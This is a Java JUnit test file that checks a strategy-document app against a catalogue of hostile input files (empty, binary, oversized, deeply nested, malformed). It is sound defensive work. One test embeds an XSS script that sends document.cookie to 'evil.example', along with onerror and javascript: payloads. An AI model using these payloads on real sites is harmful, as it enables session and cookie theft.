package app.strategyworkbook.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import app.strategyworkbook.format.FileFormat;
import app.strategyworkbook.files.StrategyFiles;
import app.strategyworkbook.format.StrategyFormatException;
import app.strategyworkbook.format.fuzz.ReaderRule;
import app.strategyworkbook.model.StrategyDocument;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The hostile-file catalogue of the README, entry by entry (H1 … H30; H20, a file changing as it is read, is in
 * {@code ChangingWhileReadTest}, which needs the reading step's seam). Refused files get one sentence, exit code 2
 * from the command line, and change nothing; the others open, keep every word, never run anything, and save to a
 * file that reads back the same (the fuzz tests' {@link ReaderRule}). No entry may take long enough to freeze the app:
 * each runs under a timeout far above what it needs.
 */
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class HostileFilesTest {
    @TempDir
    Path dir;

    private final Commands commands = new Commands();
    private final StrategyFiles files = new StrategyFiles();

    private int run(String... args) {
        return commands.run(args);
    }

    private String err() {
        return commands.err();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String example() {
        try {
            return Files.readString(Path.of("samples/example-strategy.md"));
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** Refused files: the catalogue entry, the file's name and bytes, and a phrase its one sentence must have. */
    static Stream<Arguments> refused() {
        byte[] binary = {(byte) 0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 'I', 'H', 'D', 'R'};
        byte[] latin1 = "## Company Overview\n\n### Mission\nCaf\u00e9 for all\n".getBytes(StandardCharsets.ISO_8859_1);
        return Stream.of(
                Arguments.of("H1 empty file", "empty.md", new byte[0], "it is empty"),
                Arguments.of("H2 only blank lines", "blank.json", utf8("  \n\n "), "it is empty"),
                Arguments.of("H3 binary data", "picture.md", binary, "not a text file"),
                Arguments.of("H4 not UTF-8", "latin1.md", latin1, "not UTF-8 text (an invalid byte stands on line 4)"),
                Arguments.of("H7 neither Markdown nor JSON", "strategy.txt", utf8("## Company Overview\n"),
                        "Markdown (.md, .markdown) and JSON (.json)"),
                Arguments.of("H10 truncated JSON", "truncated.json",
                        utf8("{\"schemaVersion\": 1,\n \"overview\": {\"mission\": \"To"), "not valid JSON"),
                Arguments.of("H11 JSON of the wrong shape", "shape.json",
                        utf8("{\"schemaVersion\": 1, \"pillars\": \"three\"}"), "wrong shape at pillars"),
                Arguments.of("H12 JSON that is not an object", "list.json", utf8("[1, 2]"), "not a strategy"),
                Arguments.of("H13 JSON from a newer version", "future.json", utf8("{\"schemaVersion\": 7}"),
                        "newer version of Strategy Workbook"),
                Arguments.of("H14 JSON with a field this version does not know", "unknown.json",
                        utf8("{\"schemaVersion\": 1, \"overview\": {\"motto\": \"x\"}}"), "\"motto\" in overview"),
                Arguments.of("H15 JSON with a key given twice", "twice.json",
                        utf8("{\"schemaVersion\": 1, \"purpose\": {\"text\": \"a\", \"text\": \"b\"}}"), "text"),
                Arguments.of("H16 deeply nested JSON", "deep.json",
                        utf8("{\"schemaVersion\": 1, \"risks\": " + "[".repeat(100_000) + "]".repeat(100_000) + "}"),
                        "wrong shape at risks"),
                Arguments.of("H16 deeply nested JSON before the version", "deeper.json",
                        utf8("{\"notes\": " + "[".repeat(100_000) + "]".repeat(100_000) + ", \"schemaVersion\": 1}"),
                        "more than 64 levels deep"),
                Arguments.of("H17 an enormous JSON string", "long.json",
                        utf8("{\"schemaVersion\": 1, \"purpose\": {\"text\": \"" + "x".repeat(25_000_000) + "\"}}"),
                        "a single value far longer than any strategy field"),
                Arguments.of("H18 an enormous JSON array", "many.json",
                        utf8("{\"schemaVersion\": 1, \"risks\": {\"risks\": [" + "{},".repeat(1_499_999) + "{}]}}"),
                        "more than 2,500,000 values"),
                Arguments.of("H19 millions of Markdown lines", "lines.md",
                        utf8("## Company Overview\n\n### Values\n" + "- a\n".repeat(2_000_000)),
                        "more than 200,000 lines"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void isRefusedWithOneSentenceAndChangesNothing(String entry, String name, byte[] bytes, String phrase)
            throws Exception {
        Path in = dir.resolve(name);
        Files.write(in, bytes);
        Path target = dir.resolve("out.json");
        assertEquals(2, run("convert", in.toString(), target.toString()));
        assertOneSentence(in, phrase);
        assertFalse(Files.exists(target), "convert wrote nothing");
        Path existing = dir.resolve("existing.md");
        Files.writeString(existing, "keep me");
        assertEquals(2, run("convert", in.toString(), existing.toString()));
        assertEquals("keep me", Files.readString(existing), "an existing file is not replaced on failure");
        assertEquals(2, run("validate", in.toString()));
        assertArrayEquals(bytes, Files.readAllBytes(in), "the input is untouched");
        try (var left = Files.list(dir)) {
            assertEquals(2, left.count(), "no temporary file is left behind");
        }
    }

    private void assertOneSentence(Path file, String phrase) {
        String message = err().lines().findFirst().orElse("");
        assertEquals(1, err().lines().distinct().count(), () -> "one sentence each time, got: " + err());
        assertTrue(message.startsWith("Cannot "), message);
        assertTrue(message.contains(file.toString()), () -> "names the file: " + message);
        assertTrue(message.contains(phrase), () -> "says \"" + phrase + "\": " + message);
        assertFalse(message.contains("Exception") || message.contains("\tat "), () -> "no stack trace: " + message);
        assertTrue(message.endsWith("."), () -> "a sentence: " + message);
    }

    @Test
    void h5_aFileOverTheSizeLimitIsRefusedWithoutBeingRead() throws Exception {
        Path big = dir.resolve("huge.md");
        try (RandomAccessFile file = new RandomAccessFile(big.toFile(), "rw")) {
            file.setLength(StrategyFiles.MAX_BYTES + 1); // sparse: nothing is written, and nothing must be read
        }
        assertEquals(2, run("validate", big.toString()));
        assertOneSentence(big, "larger than the 32 MB");
    }

    @Test
    void h8_aFolderIsNotAFile() throws Exception {
        Path folder = Files.createDirectory(dir.resolve("strategy.md"));
        assertEquals(2, run("validate", folder.toString()));
        assertOneSentence(folder, "it is a folder");
    }

    @Test
    void h9_aFileThatIsGone() {
        Path gone = dir.resolve("gone.md");
        assertEquals(2, run("validate", gone.toString()));
        assertOneSentence(gone, "there is no such file");
    }

    /** A file that opens: every word kept, a stable save, and what the validate command says of it. */
    private StrategyDocument opens(String name, String text) throws Exception {
        return opens(name, utf8(text));
    }

    private StrategyDocument opens(String name, byte[] bytes) throws Exception {
        FileFormat format = FileFormat.of(Path.of(name)).orElseThrow();
        ReaderRule.check(bytes, format);
        Path file = dir.resolve(name);
        Files.write(file, bytes);
        assertTrue(run("validate", file.toString()) <= 1, this::err);
        assertArrayEquals(bytes, Files.readAllBytes(file), "opening changes nothing");
        return files.open(file).document();
    }

    private String saved(StrategyDocument doc) {
        return files.text(doc, FileFormat.MARKDOWN, false);
    }

    @Test
    void h6_markdownWithNoneOfTheTemplatesSectionsOpensAndSaysSo() throws Exception {
        String text = "# Shopping\n\n## Monday\n\n- milk\n- bread\n\n## Tuesday\n\n- eggs\n";
        StrategyDocument doc = opens("notes.md", text);
        assertEquals("Shopping", doc.getHeader().getTitle());
        Path file = dir.resolve("notes.md");
        assertEquals(0, run("validate", file.toString()), this::err);
        assertEquals("", err(), "opening is no failure");
        assertTrue(commands.out().contains(file + ": warning: 0 of 2 sections recognised; the rest is kept as "
                + "written: Monday, Tuesday"), commands::out);
        assertTrue(saved(doc).contains("## Monday\n\n- milk\n- bread\n\n## Tuesday\n\n- eggs"), "every word kept");
    }

    @Test
    void h21_aByteOrderMarkIsReadAsTheStartOfTheText() throws Exception {
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        byte[] md = utf8(example());
        byte[] withBom = new byte[bom.length + md.length];
        System.arraycopy(bom, 0, withBom, 0, 3);
        System.arraycopy(md, 0, withBom, 3, md.length);
        StrategyDocument doc = opens("bom.md", withBom);
        assertEquals("Lumen AI Company Strategy", doc.getHeader().getTitle());
        assertEquals(example(), saved(doc), "saved as the same text, without the mark");

        byte[] json = Files.readAllBytes(Path.of("samples/example-strategy.json"));
        byte[] jsonWithBom = new byte[3 + json.length];
        System.arraycopy(bom, 0, jsonWithBom, 0, 3);
        System.arraycopy(json, 0, jsonWithBom, 3, json.length);
        assertEquals("Lumen AI Company Strategy", opens("bom.json", jsonWithBom).getHeader().getTitle());
    }

    @Test
    void h22_windowsLineEndingsAreKept() throws Exception {
        String crlf = example().replace("\n", "\r\n");
        Path file = dir.resolve("windows.md");
        Files.writeString(file, crlf);
        var opened = files.open(file);
        assertEquals(crlf, files.text(opened.document(), FileFormat.MARKDOWN, opened.crlf()));
        ReaderRule.check(utf8(crlf), FileFormat.MARKDOWN);
    }

    @Test
    void h23_tenThousandHeadings() throws Exception {
        StringBuilder text = new StringBuilder("## Company Overview\n\n### Mission\nOne mission.\n\n");
        for (int i = 1; i <= 10_000; i++) {
            text.append("#### Note ").append(i).append("\n\nWords of note ").append(i).append(".\n\n");
        }
        StrategyDocument doc = opens("headings.md", text.toString());
        assertEquals("One mission.", doc.getOverview().getMission());
        assertTrue(saved(doc).contains("#### Note 10000\n\nWords of note 10000."), "the last one kept as written");
    }

    @Test
    void h24_aTableWithFiveHundredColumns() throws Exception {
        StringBuilder table = new StringBuilder("| Risk | Likelihood | Impact | Mitigation Strategy |");
        StringBuilder rule = new StringBuilder("|---|---|---|---|");
        for (int c = 1; c <= 496; c++) {
            table.append(" Extra ").append(c).append(" |");
            rule.append("---|");
        }
        table.append('\n').append(rule).append('\n');
        for (int r = 1; r <= 20; r++) {
            table.append("| Risk ").append(r).append(" | Low | High | Watch |");
            for (int c = 1; c <= 496; c++) {
                table.append(" v").append(r).append('x').append(c).append(" |");
            }
            table.append('\n');
        }
        StrategyDocument doc = opens("columns.md", "## Key Risks and Mitigation\n\n" + table);
        assertEquals(20, doc.getRisks().getRisks().size());
        assertEquals("Risk 20", doc.getRisks().getRisks().get(19).getRisk());
        assertTrue(saved(doc).contains("v20x496"), "the last cell of the last unknown column is kept");
    }

    @Test
    void h25_htmlAndScriptAreTextNeverRun() throws Exception {
        String script = "<script>document.location='https://evil.example/?'+document.cookie</script>";
        String text = "## Company Overview\n\n### Mission\nWe help <b>everyone</b> <img src=x onerror=alert(1)>.\n\n"
                + script + "\n\n<iframe src=\"https://evil.example\"></iframe>\n";
        StrategyDocument doc = opens("html.md", text);
        assertEquals("We help <b>everyone</b> <img src=x onerror=alert(1)>.", doc.getOverview().getMission(),
                "kept as typed, to be shown as text");
        assertTrue(saved(doc).contains(script));
        // Nothing can run it: the app has no web engine, and the architecture test keeps it that way.
        assertThrows(ClassNotFoundException.class, () -> Class.forName("javafx.scene.web.WebView"));
    }

    @Test
    void h26_linksAreKeptAsTextAndNeverFollowed() throws Exception {
        String mission = "See [our site](https://lumen.example), <https://lumen.example/a> and "
                + "[this](javascript:alert(1)).";
        StrategyDocument doc = opens("links.md", "## Company Overview\n\n### Mission\n" + mission + "\n");
        assertEquals(mission, doc.getOverview().getMission());
        // The app opens no link at all: ArchitectureTest forbids HostServices.showDocument and java.awt.Desktop.
    }

    @Test
    void h27_anHtmlCommentLeftOpenHidesNothingAfterASave() throws Exception {
        StrategyDocument doc = opens("open-comment.md", "## Company Overview\n\n### Mission\nOurs.\n\n"
                + "<!-- draft: the rest is hidden\n\n## Key Risks and Mitigation\n");
        String saved = saved(doc);
        assertTrue(saved.contains("<!-- draft: the rest is hidden\n\n## Key Risks and Mitigation\n-->"), saved);
        assertTrue(saved.indexOf("-->", saved.indexOf("<!-- draft")) < saved.indexOf("## Success Criteria"),
                "the sections written after it are not inside it");

        String fenced = saved(opens("open-fence.md", "## Company Overview\n\n### Mission\nOurs.\n\n"
                + "````notes\nthe rest is code\n"));
        assertTrue(fenced.contains("````notes\nthe rest is code\n````"), fenced);
    }

    @Test
    void h28_deeplyNestedMarkdown() throws Exception {
        String text = "## Company Overview\n\n" + ">".repeat(50_000) + " deep\n\n" + "- ".repeat(20_000) + "x\n\n"
                + "[".repeat(50_000) + "\n\n" + "*".repeat(50_000) + "\n";
        opens("nested.md", text);
    }

    @Test
    void h29_aSectionGivenTwice() throws Exception {
        String text = "## Purpose\n\nFirst purpose.\n\n## Company Overview\n\n### Mission\nM.\n\n"
                + "## Purpose\n\nA pasted copy of the purpose.\n";
        StrategyDocument doc = opens("twice.md", text);
        assertEquals("First purpose.", doc.getPurpose().getText());
        String saved = saved(doc);
        assertTrue(saved.indexOf("## Purpose\n\nA pasted copy of the purpose.") > saved.indexOf("First purpose."),
                "the copy is kept as written, after the first");
    }

    @Test
    void h30_controlCharactersAndNoSections() throws Exception {
        String text = "## Strategic Pillars\n\n### Pillar 1: \u0007Bell\u001b[31m red\u200b\u202e reversed\n"
                + "**Description:** tab\there\n";
        StrategyDocument doc = opens("control.md", text);
        assertTrue(doc.getPillars().getPillars().get(0).getName().contains("\u202e reversed"),
                "kept as written; the fields show them as text");
    }
}
